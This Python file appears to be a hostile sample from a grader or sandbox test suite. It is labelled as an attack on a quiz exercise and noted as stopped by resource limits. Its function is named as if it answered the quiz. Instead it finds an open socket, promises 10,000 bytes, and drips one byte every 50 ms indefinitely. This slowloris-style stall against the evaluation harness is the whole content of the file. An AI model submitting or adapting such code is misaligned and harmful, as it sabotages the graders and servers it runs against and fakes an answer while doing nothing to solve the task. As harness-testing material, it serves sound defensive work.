"""Answer so slowly, byte by byte, that each one comes in time and the whole never.

Seen: slowloris; own idea here.
"""

# /// attack
# exercise = "02_cell/quiz"
# stopped_by = "limits"
# ///

import os
import stat
import struct
import time


def number_of_parameters() -> int:
    fd = next(fd for fd in range(3, 256) if os.path.exists("/") and is_socket(fd))
    os.write(fd, struct.pack("<I", 10_000))
    while True:
        os.write(fd, b"x")
        time.sleep(0.05)


def is_socket(fd: int) -> bool:
    try:
        return stat.S_ISSOCK(os.fstat(fd).st_mode)
    except OSError:
        return False
